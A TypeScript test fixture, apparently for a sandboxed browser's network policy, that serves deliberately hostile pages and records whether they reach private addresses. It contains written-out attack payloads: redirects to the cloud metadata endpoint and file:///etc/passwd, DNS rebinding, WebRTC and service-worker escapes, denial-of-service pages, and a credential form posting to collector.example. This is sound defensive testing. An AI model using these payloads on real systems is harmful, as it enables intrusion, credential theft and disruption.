import { createSocket } from "node:dgram";
import { createServer, type ServerResponse } from "node:http";
import { createServer as createTcp, type AddressInfo } from "node:net";

import { createAddressPolicy } from "@parapet/net/address-policy";
import { createNet } from "@parapet/net/create-net";
import type { Net } from "@parapet/net/net";
import { startDns } from "@parapet/net/testing/start-dns";

/** The address that may be visited. Every other address of the machine stands for a private network. */
const SITE = "127.0.7.1";
export const PRIVATE = "127.0.0.1";
const MEGABYTE = Buffer.alloc(1024 * 1024, "x");

export interface HostileStage extends AsyncDisposable {
  readonly net: Net;
  /** The address of a page. */
  url(path: string): string;
  /** What reached an address that must not be reached. */
  escaped(): string[];
  /** Requests that reached the site. */
  asked(): string[];
}

type Respond = (response: ServerResponse) => void;

const html =
  (body: string): Respond =>
  (response) =>
    void response.writeHead(200, { "content-type": "text/html" }).end(`<!doctype html><title>x</title>${body}`);

const to =
  (location: string): Respond =>
  (response) =>
    void response.writeHead(302, { location }).end();

const pour = (response: ServerResponse, megabytes: number): void => {
  let left = megabytes;
  const next = (): void => {
    while (left > 0 && !response.destroyed) {
      left -= 1;
      if (!response.write(MEGABYTE)) return void response.once("drain", next);
    }
    response.end();
  };
  next();
};

/** A website that tries to get out of the browser, and what it tries to reach. */
export const startHostilePages = async (): Promise<HostileStage> => {
  const escaped: string[] = [];
  const asked: string[] = [];
  let rebinds = 0;
  const dns = await startDns(({ name, type }) => {
    if (type !== "A") return [];
    const answer = (data: string) => [{ name, type: "A" as const, ttl: 0, data }];
    if (name === "evil.test") return answer(SITE);
    if (name === "private.test") return answer(PRIVATE);
    // Allowed when the page is loaded, private when its scripts ask again.
    if (name === "rebind.test") return answer((rebinds += 1) <= 1 ? SITE : PRIVATE);
    return "nxdomain";
  });
  const site = createServer();
  await new Promise<void>((resolve) => {
    site.listen(0, SITE, resolve);
  });
  const { port } = site.address() as AddressInfo;
  // The same port, so that only the address is wrong.
  const canary = createTcp((socket) => {
    escaped.push(`tcp ${socket.localAddress}`);
    socket.on("error", () => {});
    socket.end("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 6\r\n\r\nsecret");
  });
  await new Promise<void>((resolve) => {
    canary.listen(port, PRIVATE, resolve);
  });
  const udp = createSocket("udp4");
  udp.on("message", () => escaped.push("udp"));
  await new Promise<void>((resolve) => {
    udp.bind(port, PRIVATE, resolve);
  });

  const everyWayOut = (address: string): string => `
    <img src="http://${address}/img"><script src="http://${address}/script"></script><link rel=stylesheet href="http://${address}/style">
    <link rel=dns-prefetch href="//${address}"><link rel=preconnect href="http://${address}"><link rel=prefetch href="http://${address}/prefetch">
    <iframe src="http://${address}/frame"></iframe><object data="http://${address}/object"></object><video src="http://${address}/video" autoplay></video>
    <style>@font-face{font-family:x;src:url(http://${address}/font)}body{font-family:x;background:url(http://${address}/background)}</style>
    <script>
      const quietly = (work) => { try { Promise.resolve(work()).catch(() => {}); } catch {} };
      quietly(() => fetch("http://${address}/fetch", { mode: "no-cors" }));
      quietly(() => fetch("https://${address}/fetch", { mode: "no-cors" }));
      quietly(() => navigator.sendBeacon("http://${address}/beacon", "x"));
      quietly(() => new WebSocket("ws://${address}/ws"));
      quietly(() => new EventSource("http://${address}/events"));
      quietly(() => new WebTransport("https://${address}/"));
      quietly(() => { const x = new XMLHttpRequest(); x.open("GET", "http://${address}/xhr"); x.send(); });
      quietly(() => new Worker(URL.createObjectURL(new Blob(["fetch('http://${address}/worker',{mode:'no-cors'})"]))));
      quietly(() => { const f = document.createElement("form"); f.action = "http://${address}/form"; f.method = "post"; f.target = "_blank"; document.documentElement.append(f); f.submit(); });
    </script><p>text`;

  const PAGES: Readonly<Record<string, Respond>> = {
    "/plain": html("<h1>Plain page</h1>"),
    "/endless": (response) => {
      response.writeHead(200, { "content-type": "text/html" });
      const drip = setInterval(() => response.write("<p>more</p>"), 20);
      response.on("close", () => clearInterval(drip));
    },
    "/endless-stream": (response) => {
      response.writeHead(200, { "content-type": "text/html" });
      pour(response, 100_000);
    },
    "/loop": html("<script>for (;;) {}</script>"),
    "/memory": html("<script>const all = []; for (;;) all.push(new Uint8Array(8e6).fill(1));</script>"),
    "/print": html("<script>setInterval(() => print(), 10)</script><p>text"),
    "/alerts": html(
      "<script>for (let n = 0; n < 50; n++) { alert(n); confirm(n); prompt(n); } onbeforeunload = () => 1;</script><p>text",
    ),
    "/windows": html(
      `<a id=a target=_blank href="/plain">x</a><script>for (let n = 0; n < 50; n++) { open("/plain"); a.click(); } setInterval(() => open("http://${PRIVATE}:${port}/"), 20)</script><p>text`,
    ),
    "/download": (response) =>
      void response
        .writeHead(200, {
          "content-type": "application/octet-stream",
          "content-disposition": "attachment; filename=x.exe",
        })
        .end("MZ"),
    "/download-script": html(
      `<a id=a download=x.exe href="data:application/octet-stream,MZ">x</a><script>for (let n = 0; n < 20; n++) a.click(); location = "/download"</script><p>text`,
    ),
    "/permissions": html(
      `<script>navigator.geolocation?.getCurrentPosition(() => {}); navigator.mediaDevices?.getUserMedia({ video: true, audio: true }); Notification?.requestPermission?.(); navigator.clipboard?.readText(); navigator.requestMIDIAccess?.(); document.documentElement.requestFullscreen?.()</script><p>text`,
    ),
    "/to-private": to(`http://${PRIVATE}:${port}/`),
    "/to-private-name": to(`http://private.test:${port}/`),
    "/to-metadata": to("http://169.254.169.254/latest/meta-data/"),
    "/to-file": to("file:///etc/passwd"),
    "/meta-to-file": html(
      `<meta http-equiv=refresh content="0;url=file:///etc/passwd"><script>location = "file:///etc/passwd"</script><iframe src="file:///etc/passwd"></iframe><p>text`,
    ),
    "/script-to-private": html(`<script>location = "http://${PRIVATE}:${port}/"</script><p>text`),
    "/webrtc": html(
      `<script>const P = globalThis.RTCPeerConnection ?? document.createElement("iframe").contentWindow?.RTCPeerConnection; if (P) { const c = new P({ iceServers: [{ urls: "stun:${PRIVATE}:${port}" }, { urls: "turn:${PRIVATE}:${port}?transport=tcp", username: "x", credential: "x" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); }</script><p>text`,
    ),
    "/worker": html(
      `<script>navigator.serviceWorker?.register("/worker.js").then(() => fetch("/registered"))</script><p>text`,
    ),
    "/worker.js": (response) =>
      void response
        .writeHead(200, { "content-type": "text/javascript" })
        .end(`setInterval(() => fetch("http://${PRIVATE}:${port}/worker", { mode: "no-cors" }), 50)`),
    "/rebind": html(
      `<script>setInterval(() => fetch("http://rebind.test:${port}/again?" + Math.random(), { mode: "no-cors" }).catch(() => {}), 30)</script><p>text`,
    ),
    "/large-image": html(`<img src="/large-file.png" width=400 height=300><p>text`),
    "/large-file.png": (response) => {
      response.writeHead(200, { "content-type": "image/png" });
      pour(response, 100);
    },
    "/fonts": html(
      `<style>@font-face{font-family:x;src:url(/large-file.woff2)}@font-face{font-family:y;src:url(/broken.woff2)}p{font-family:x,y}</style><p>text`,
    ),
    "/large-file.woff2": (response) => {
      response.writeHead(200, { "content-type": "font/woff2" });
      pour(response, 60);
    },
    "/broken.woff2": (response) => void response.writeHead(200, { "content-type": "font/woff2" }).end("wOF2\0\0\0"),
    "/ways-out": html(everyWayOut(`${PRIVATE}:${port}`)),
    "/ways-out-name": html(everyWayOut(`private.test:${port}`)),
    "/ways-out-ipv6": html(everyWayOut(`[::1]:${port}`)),
    "/ways-out-localhost": html(everyWayOut(`localhost:${port}`)),
    "/login-elsewhere": html(
      `<h1>Sign in</h1><form method=post action="https://collector.example/take"><input name=user><input type=password name=p><button>Go</button></form>`,
    ),
  };
  site.on("request", (request, response: ServerResponse) => {
    const path = request.url ?? "";
    asked.push(`${request.headers.host} ${path}`);
    response.on("error", () => {});
    const page = PAGES[path.split("?")[0] ?? ""];
    if (page === undefined) response.writeHead(404).end();
    else page(response);
  });
  const net = createNet({
    resolvers: [dns.address],
    policy: createAddressPolicy({ allow: [`${SITE}/32`] }),
  });
  return {
    net,
    url: (path) => `http://${path === "/rebind" ? "rebind" : "evil"}.test:${port}${path}`,
    escaped: () => [...escaped],
    asked: () => [...asked],
    async [Symbol.asyncDispose]() {
      site.closeAllConnections();
      site.close();
      canary.close();
      udp.close();
      await net[Symbol.asyncDispose]();
      await dns[Symbol.asyncDispose]();
    },
  };
};
